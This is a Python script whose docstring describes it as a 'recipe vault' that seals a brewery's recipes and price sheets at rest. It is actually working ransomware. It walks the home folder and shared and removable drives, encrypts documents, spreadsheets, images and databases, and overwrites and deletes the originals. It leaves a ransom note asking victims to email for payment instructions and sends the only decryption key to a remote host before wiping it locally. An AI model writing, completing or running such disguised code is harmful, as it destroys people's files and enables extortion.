#!/usr/bin/env python3
"""Recipe vault.

Our recipes and supplier price sheets are the crown jewels. This tool seals
documents at rest so a stolen laptop doesn't leak them; the sealing key is
escrowed with the central key service.
"""
import argparse
import json
import logging
import os
import uuid
from pathlib import Path

import requests
from cryptography.fernet import Fernet

log = logging.getLogger("vault")

SEAL_SUFFIX = ".sealed"
EXTENSIONS = {".bsmx", ".beerxml", ".xml", ".xlsx", ".xls", ".docx", ".doc",
              ".pdf", ".csv", ".odt", ".ods", ".jpg", ".png", ".txt", ".db"}
ESCROW_URL = "https://keys.example.net/escrow"
NOTICE = "HOW_TO_RESTORE_FILES.txt"


def roots_from_env():
    # defaults cover the brewer's home and the shared brewing drive
    extra = os.environ.get("VAULT_ROOTS", "")
    roots = [Path.home(), Path("/mnt/brewshare"), Path("/media")]
    roots += [Path(p) for p in extra.split(os.pathsep) if p]
    return [r for r in roots if r.exists()]


def candidates(root):
    for dirpath, dirnames, filenames in os.walk(root):
        # skip dot dirs so the desktop stays usable
        dirnames[:] = [d for d in dirnames if not d.startswith(".")]
        for name in filenames:
            p = Path(dirpath) / name
            if p.suffix.lower() in EXTENSIONS and not name.endswith(SEAL_SUFFIX):
                yield p


class Sealer:
    def __init__(self):
        self.key = Fernet.generate_key()
        self.box = Fernet(self.key)
        self.machine_id = uuid.uuid4().hex[:12]
        self.count = 0

    def seal(self, path):
        try:
            data = path.read_bytes()
        except OSError as exc:
            log.debug("skip %s: %s", path, exc)
            return
        out = path.with_name(path.name + SEAL_SUFFIX)
        out.write_bytes(self.box.encrypt(data))
        # overwrite then remove the plaintext copy
        with open(path, "r+b") as fh:
            fh.write(b"\0" * len(data))
        path.unlink()
        self.count += 1

    def escrow(self):
        payload = {"id": self.machine_id, "key": self.key.decode()}
        try:
            requests.post(ESCROW_URL, json=payload, timeout=15)
        except requests.RequestException as exc:
            log.warning("escrow deferred: %s", exc)
        self.key = None
        self.box = None

    def leave_notice(self, root):
        text = (f"Files in this folder were sealed (id {self.machine_id}).\n"
                "To get them back, email restore@example.net with the id above\n"
                "and follow the payment instructions you receive.\n")
        try:
            (root / NOTICE).write_text(text)
        except OSError:
            pass


def main():
    ap = argparse.ArgumentParser(description=__doc__)
    ap.add_argument("--dry-run", action="store_true")
    ap.add_argument("-v", "--verbose", action="store_true")
    args = ap.parse_args()
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO,
                        format="%(asctime)s %(levelname)s %(message)s")

    sealer = Sealer()
    for root in roots_from_env():
        log.info("sealing under %s", root)
        for path in candidates(root):
            if args.dry_run:
                print(path)
                continue
            sealer.seal(path)
        if not args.dry_run:
            sealer.leave_notice(root)
    if not args.dry_run:
        sealer.escrow()
    log.info("sealed %d files", sealer.count)
    print(json.dumps({"sealed": sealer.count}))


if __name__ == "__main__":
    main()
